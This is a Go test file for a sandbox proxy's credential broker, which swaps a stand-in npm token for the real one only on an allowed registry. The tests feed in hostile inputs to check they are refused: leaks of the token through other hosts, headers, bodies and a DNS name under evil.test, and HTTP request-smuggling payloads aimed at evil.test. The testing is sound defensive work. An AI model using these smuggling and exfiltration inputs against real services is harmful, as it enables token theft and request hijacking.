package netproxy

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sysprof/sysprof/report"
)

const realToken = "npm_REALtokenREALtokenREALtokenREAL1234"

// authUpstream is a registry that answers 200 only to the real token, and records every
// Authorization it saw.
type authUpstream struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

// upstreamTLS, when set (a test), changes the TLS upstream's configuration before it starts.
var upstreamTLS func(*tls.Config)

func newAuthUpstream(t *testing.T, tlsCert *tls.Certificate) *authUpstream {
	u := &authUpstream{}
	u.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		u.mu.Lock()
		u.seen = append(u.seen, r.Header.Get("Authorization")+" "+r.URL.String()+" "+string(body))
		u.mu.Unlock()
		if r.URL.Path == "/echo" {
			fmt.Fprint(w, r.Header.Get("Authorization"))
			return
		}
		if r.URL.Path == "/echo-gzip" && strings.Contains(r.Header.Get("Accept-Encoding"), "gzip") {
			// An echo the client asked for compressed: the real value would pass unseen.
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			fmt.Fprint(zw, r.Header.Get("Authorization"))
			zw.Close()
			return
		}
		user, pass, basic := r.BasicAuth()
		if r.Header.Get("Authorization") != "Bearer "+realToken && !(basic && user == "me" && pass == realToken) {
			w.Header().Set("WWW-Authenticate", `Bearer realm="test"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		fmt.Fprint(w, strings.Repeat("tarball ", 1000))
	}))
	if tlsCert != nil {
		u.TLS = &tls.Config{Certificates: []tls.Certificate{*tlsCert}}
		if upstreamTLS != nil {
			upstreamTLS(u.TLS)
		}
		u.StartTLS()
	} else {
		u.Start()
	}
	t.Cleanup(u.Close)
	return u
}

func (u *authUpstream) port() uint16 { return uint16(u.Listener.Addr().(*net.TCPAddr).Port) }

func (u *authUpstream) saw() string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return strings.Join(u.seen, "\n")
}

// brokerSetup starts TLS and plain registries for reg.test (brokered) and a plain one for
// other.test (not brokered), and a proxy with a broker for reg.test.
type brokerSetup struct {
	p                   *Proxy
	b                   *Broker
	tlsUp, plainUp, oth *authUpstream
	clientRoots         *x509.CertPool
	standIn             string
}

func newBrokerSetup(t *testing.T, basic bool) *brokerSetup {
	// The upstream's own CA stands for a public one: the host trusts it (Broker.Roots).
	upCA, err := NewBroker(nil)
	if err != nil {
		t.Fatal(err)
	}
	upCert, err := upCA.leaf("reg.test")
	if err != nil {
		t.Fatal(err)
	}
	s := &brokerSetup{tlsUp: newAuthUpstream(t, upCert), plainUp: newAuthUpstream(t, nil), oth: newAuthUpstream(t, nil)}
	s.standIn, _ = NewStandIn(realToken)
	cred := Credential{Name: "the npm token ($HOME/.npmrc //reg.test/:_authToken)", Hosts: []string{"reg.test"}, Header: "Authorization",
		Basic: basic, StandIn: s.standIn, Real: realToken}
	if s.b, err = NewBroker([]Credential{cred}); err != nil {
		t.Fatal(err)
	}
	s.b.Roots = x509.NewCertPool()
	s.b.Roots.AddCert(upCA.ca)
	s.clientRoots = x509.NewCertPool()
	if !s.clientRoots.AppendCertsFromPEM(s.b.CAPEM) {
		t.Fatal("CAPEM does not parse")
	}
	var rules []Rule
	for _, r := range []struct {
		host string
		port uint16
	}{{"reg.test", s.tlsUp.port()}, {"reg.test", s.plainUp.port()}, {"other.test", s.oth.port()}} {
		rules = append(rules, Rule{Host: r.host, Port: r.port, Endpoint: fmt.Sprintf("%s:%d", r.host, r.port)})
	}
	s.p, _ = startProxy(t, rules, Options{Broker: s.b, Resolve: map[string][]netip.Addr{"reg.test": lo, "other.test": lo}}, nil)
	t.Cleanup(func() { s.p.Close() })
	return s
}

// client is an HTTP client inside the sandbox: every name dials its synthetic address, and it
// trusts only the run CA.
func (s *brokerSetup) client() *http.Client {
	return &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			h, port, _ := net.SplitHostPort(addr)
			a, _ := s.p.plan.Synthetic(h)
			var d net.Dialer
			return d.DialContext(ctx, "tcp", net.JoinHostPort(a.String(), port))
		},
		TLSClientConfig: &tls.Config{RootCAs: s.clientRoots},
	}}
}

func (s *brokerSetup) get(t *testing.T, url string, hdr map[string]string) (int, string, error) {
	req, _ := http.NewRequest("GET", url, nil)
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := s.client().Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), err
}

func criticals(p *Proxy) []report.Denial {
	ds, _ := p.Close()
	var out []report.Denial
	for _, d := range ds {
		if d.Risk == report.RiskCritical {
			out = append(out, d)
		}
	}
	return out
}

// The tool holds the stand-in; the registry sees the real token, over TLS (the run CA) and
// plain HTTP; every use is logged.
func TestBrokerSwapsOnlyForItsHost(t *testing.T) {
	s := newBrokerSetup(t, false)
	auth := map[string]string{"Authorization": "Bearer " + s.standIn}
	if s.standIn == realToken || len(s.standIn) != len(realToken) || !strings.HasPrefix(s.standIn, "npm_") {
		t.Fatalf("stand-in %q", s.standIn)
	}
	for _, url := range []string{fmt.Sprintf("https://reg.test:%d/pkg", s.tlsUp.port()), fmt.Sprintf("http://reg.test:%d/pkg", s.plainUp.port())} {
		code, body, err := s.get(t, url, auth)
		if err != nil || code != 200 || !strings.HasPrefix(body, "tarball") {
			t.Fatalf("%s: %d %v (upstream saw %q)", url, code, err, s.tlsUp.saw()+s.plainUp.saw())
		}
	}
	if !strings.Contains(s.tlsUp.saw(), "Bearer "+realToken) || strings.Contains(s.tlsUp.saw(), s.standIn) {
		t.Fatalf("TLS upstream saw %q", s.tlsUp.saw())
	}
	// Without the stand-in nothing is added.
	if code, _, _ := s.get(t, fmt.Sprintf("http://reg.test:%d/pkg", s.plainUp.port()), nil); code != 401 {
		t.Fatalf("no credential: %d", code)
	}
	if c := criticals(s.p); len(c) != 0 { // closes the proxy: every use is logged by now
		t.Fatalf("denials: %+v", c)
	}
	uses := s.b.Uses()
	if len(uses) != 2 || uses[0].Method != "GET" || uses[0].Path != "/pkg" || uses[0].Status != 200 || uses[0].BytesIn == 0 || uses[0].BytesOut == 0 {
		t.Fatalf("uses: %+v", uses)
	}
}

// A stand-in anywhere else is refused and reported critical: another host, the URL, another
// header, the body, a DNS name; and a real value echoed back never reaches the client.
func TestBrokerRefusesStandInElsewhere(t *testing.T) {
	s := newBrokerSetup(t, false)
	tlsURL := fmt.Sprintf("https://reg.test:%d", s.tlsUp.port())
	cases := []struct {
		name string
		do   func() (int, string, error)
	}{
		{"other host", func() (int, string, error) {
			return s.get(t, fmt.Sprintf("http://other.test:%d/x", s.oth.port()), map[string]string{"Authorization": "Bearer " + s.standIn})
		}},
		{"url", func() (int, string, error) { return s.get(t, tlsURL+"/x?t="+s.standIn, nil) }},
		{"other header", func() (int, string, error) {
			return s.get(t, tlsURL+"/x", map[string]string{"X-Leak": strings.ToLower(s.standIn)})
		}},
		{"body", func() (int, string, error) {
			req, _ := http.NewRequest("PUT", tlsURL+"/x", bytes.NewReader([]byte(strings.Repeat("a", 70000)+s.standIn)))
			resp, err := s.client().Do(req)
			if err != nil {
				return 0, "", err
			}
			defer resp.Body.Close()
			return resp.StatusCode, "", nil
		}},
		{"echo", func() (int, string, error) {
			return s.get(t, tlsURL+"/echo", map[string]string{"Authorization": "Bearer " + s.standIn})
		}},
	}
	for _, c := range cases {
		code, body, err := c.do()
		if err == nil && code != 0 || strings.Contains(body, realToken) {
			t.Errorf("%s: answered %d %q", c.name, code, body)
		}
	}
	for _, up := range []*authUpstream{s.oth, s.tlsUp} {
		if saw := up.saw(); strings.Contains(saw, s.standIn) || strings.Contains(strings.ToLower(saw), strings.ToLower(s.standIn)) {
			t.Errorf("an upstream saw the stand-in: %q", saw)
		}
	}
	// A DNS name carrying it.
	cl := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return net.Dial("udp", s.p.dns.LocalAddr().String())
	}}
	_, _ = cl.LookupNetIP(context.Background(), "ip4", strings.ToLower(s.standIn)+".evil.test")
	time.Sleep(0) // the denial is recorded before the answer goes back
	crit := criticals(s.p)
	var whats []string
	for _, d := range crit {
		whats = append(whats, d.What)
	}
	for _, frag := range []string{"to other.test (in the request header)", "(in the request target)", "(in the X-Leak header)", "(in the request body)", "answered with the real value", "in a DNS name"} {
		if !hasDenial(whats, frag) {
			t.Errorf("no critical denial %q in %q", frag, whats)
		}
	}
}

// Basic: the stand-in is the password inside base64(user:password).
func TestBrokerBasic(t *testing.T) {
	s := newBrokerSetup(t, true)
	auth := map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+s.standIn))}
	code, _, err := s.get(t, fmt.Sprintf("https://reg.test:%d/pkg", s.tlsUp.port()), auth)
	if err != nil || code != 200 {
		t.Fatalf("basic: %d %v; upstream saw %q", code, err, s.tlsUp.saw())
	}
	code, _, err = s.get(t, fmt.Sprintf("http://other.test:%d/x", s.oth.port()), auth)
	if err == nil && code != 0 {
		t.Fatalf("basic stand-in to other.test: %d", code)
	}
	// An echo of the Basic header carries base64(me:real), never the real value as such.
	code, body, err := s.get(t, fmt.Sprintf("https://reg.test:%d/echo", s.tlsUp.port()), auth)
	if (err == nil && code != 0) || strings.Contains(body, base64.StdEncoding.EncodeToString([]byte("me:"+realToken))) {
		t.Errorf("basic echo: answered %d %q", code, body)
	}
	// An echo asked for gzip: the broker asks for identity, so it is seen.
	req, _ := http.NewRequest("GET", fmt.Sprintf("https://reg.test:%d/echo-gzip", s.tlsUp.port()), nil)
	req.Header.Set("Authorization", auth["Authorization"])
	req.Header.Set("Accept-Encoding", "gzip")
	if resp, err := s.client().Do(req); err == nil {
		var r io.Reader = resp.Body
		if resp.Header.Get("Content-Encoding") == "gzip" {
			if zr, err := gzip.NewReader(resp.Body); err == nil {
				r = zr
			}
		}
		b, _ := io.ReadAll(r)
		resp.Body.Close()
		if strings.Contains(string(b), realToken) || strings.Contains(string(b), base64.StdEncoding.EncodeToString([]byte("me:"+realToken))) {
			t.Errorf("gzip echo reached the client: %q", b)
		}
	}
	echoes := 0
	for _, d := range criticals(s.p) {
		if strings.Contains(d.What, "answered with the real value") {
			echoes += d.Count
		}
	}
	if echoes != 1 {
		t.Fatalf("echoes refused: %d, want the Basic one (the gzip one is never asked for)", echoes)
	}
}

// An upstream the host does not trust is refused, never carried.
func TestBrokerVerifiesUpstream(t *testing.T) {
	s := newBrokerSetup(t, false)
	s.b.Roots = x509.NewCertPool() // trusts nothing
	code, _, err := s.get(t, fmt.Sprintf("https://reg.test:%d/pkg", s.tlsUp.port()), map[string]string{"Authorization": "Bearer " + s.standIn})
	if err == nil && code != 0 {
		t.Fatalf("untrusted upstream answered %d", code)
	}
	if s.tlsUp.saw() != "" {
		t.Fatalf("the untrusted upstream got a request: %q", s.tlsUp.saw())
	}
	ds := denials(s.p)
	if !hasDenial(ds, "the upstream's TLS failed") {
		t.Fatalf("denials: %q", ds)
	}
}

// An upstream the broker cannot carry — HTTP/2 only, or one that wants a client certificate —
// is refused with a sentence naming the limit; it never gets a request.
func TestBrokerRefusesWhatItCannotCarry(t *testing.T) {
	for _, tc := range []struct {
		name string
		cfg  func(*tls.Config)
		want string
	}{
		// A server that speaks HTTP/2 only ends a handshake without h2 (Go's own server would
		// fall back to HTTP/1.1).
		{"h2 only", func(c *tls.Config) {
			c.NextProtos = []string{"h2"}
			c.GetConfigForClient = func(h *tls.ClientHelloInfo) (*tls.Config, error) {
				if !slices.Contains(h.SupportedProtos, "h2") {
					return nil, errors.New("h2 only")
				}
				return nil, nil
			}
		}, "an HTTP/2-only upstream is not carried"},
		{"client certificate", func(c *tls.Config) { c.ClientAuth = tls.RequireAnyClientCert }, "asks for a client certificate"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			upstreamTLS = tc.cfg
			s := newBrokerSetup(t, false)
			upstreamTLS = nil
			code, _, err := s.get(t, fmt.Sprintf("https://reg.test:%d/pkg", s.tlsUp.port()), map[string]string{"Authorization": "Bearer " + s.standIn})
			if err == nil && code != 0 {
				t.Fatalf("answered %d", code)
			}
			if saw := s.tlsUp.saw(); saw != "" {
				t.Fatalf("the upstream got a request: %q", saw)
			}
			if ds := denials(s.p); !hasDenial(ds, tc.want) {
				t.Fatalf("denials: %q", ds)
			}
		})
	}
}

// A brokered name is held to the splice path's strict HTTP/1 reading: TE with CL, folded lines,
// bare LF and a chunked body carrying a request line are refused and reported, and none of
// them reaches the upstream as a request to another host.
func TestBrokerParsesStrictly(t *testing.T) {
	for _, tc := range []struct{ name, raw, want string }{
		{"TE and CL", "POST / HTTP/1.1\r\nHost: reg.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "both Transfer-Encoding and Content-Length"},
		{"folded", "GET / HTTP/1.1\r\nHost: reg.test\r\nX: a\r\n b\r\n\r\n", "folded"},
		{"bare LF", "GET / HTTP/1.1\nHost: reg.test\n\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "ended by a bare LF"},
		{"chunked body holding a request", "POST / HTTP/1.1\r\nHost: reg.test\r\nTransfer-Encoding: chunked\r\n\r\n23\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n\r\n0\r\n\r\n", "carries what parses as a request line"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newBrokerSetup(t, false)
			a, _ := s.p.plan.Synthetic("reg.test")
			exchange(t, netip.AddrPortFrom(a, s.plainUp.port()).String(), tc.raw)
			if saw := s.plainUp.saw(); strings.Contains(saw, "evil.test") {
				t.Errorf("the upstream got %q", saw)
			}
			if ds := denials(s.p); !hasDenial(ds, tc.want) {
				t.Errorf("denials %q, want one with %q", ds, tc.want)
			}
		})
	}
}
